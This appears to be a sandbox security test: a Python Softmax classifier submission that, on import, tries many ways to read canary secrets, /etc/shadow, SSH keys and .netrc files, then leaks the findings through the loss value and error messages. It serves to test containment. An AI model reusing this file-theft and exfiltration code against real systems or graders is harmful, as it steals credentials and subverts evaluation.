"""
goal: >-
  reads every secret file that an insider knows of, and whatever else lies about, by every way that Python opens
  files
class: read
threats: [A1, A13]
deserves: all
outcome: prevented
because: none of these files is bound into the sandbox, so no way of opening them finds them
"""
import ctypes
import fileinput
import glob
import io
import linecache
import mmap
import os
import shutil
import sqlite3
import sys

import numpy as np
import target

from honest import Softmax as Honest
from tools import attempt, loot, tell


def by_libc(path):
  libc = ctypes.CDLL(None, use_errno=True)
  fd = libc.open(path.encode(), 0)
  if fd < 0:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
  return os.read(fd, 4000)


def by_map(path):
  with open(path) as file:
    return bytes(mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ))


def linked(path):
  for name, make in (('/tmp/soft', os.symlink), ('/tmp/hard', os.link)):
    if os.path.lexists(name):
      os.remove(name)
    make(path, name)
  return open('/tmp/soft').read()


def act(where):
  if where != 'import':
    return
  for path in target.canaries:
    for name, way in {
        'open': lambda: open(path).read(),
        'os.open': lambda: os.read(os.open(path, os.O_RDONLY), 4000),
        'libc': lambda: by_libc(path),
        'numpy': lambda: np.fromfile(path, dtype=np.uint8).tobytes(),
        'loadtxt': lambda: np.loadtxt(path, dtype=str),
        'linecache': lambda: linecache.getlines(path) or None,
        'fileinput': lambda: list(fileinput.input(path)),
        'mmap': lambda: by_map(path),
        'copy': lambda: open(shutil.copy(path, '/tmp/copy')).read(),
        'link': lambda: linked(path),
        'sqlite': lambda: sqlite3.connect('file:%s?mode=ro' % path, uri=True).execute('select 1').fetchall(),
        'io': lambda: io.FileIO(path).readall(),
        'root': lambda: open('/proc/1/root' + path).read(),
        'parent': lambda: open('/proc/%d/root%s' % (os.getppid(), path)).read(),
        'dots': lambda: open('../../../../../..' + path).read(),
    }.items():
      attempt('%s %s' % (name, path), way)
  for folder in ['/', '/etc', '/home', '/root', '/tmp', '/proc', '/dev', '/usr', '/usr/lib', '/opt', '/var', '/run', target.home,
                 target.repository, target.sibling]:
    attempt('ls %s' % folder, lambda: ' '.join(os.listdir(folder)[:80]))
  attempt('secrets', lambda: glob.glob('/**/*canar*', recursive=False) + glob.glob('/*/*secret*'))
  for path in ['/etc/passwd', '/etc/shadow', '/etc/hosts', '/root/.ssh/id_rsa', os.path.expanduser('~/.netrc')]:
    attempt(path, lambda: open(path).read()[:300])
  tell('path', [sys.path, sys.prefix, sys.executable, sys.argv, getattr(sys, 'orig_argv', None)])


act('import')


class Softmax(Honest):
  """ Right answers where there are points; what was found goes out where there are none. """

  def loss(self, X, y):
    act('loss')
    loss = super(Softmax, self).loss(X, y)
    return '\n'.join(loot) if abs(float(loss)) > 700 else loss

  def train(self, X, y, learning_rate=1e-3, num_iters=100, batch_size=200, verbose=False):
    act('train')
    if learning_rate == 0:
      raise ValueError('\n'.join(loot))
    return super(Softmax, self).train(X, y, learning_rate=learning_rate, num_iters=num_iters, batch_size=batch_size)
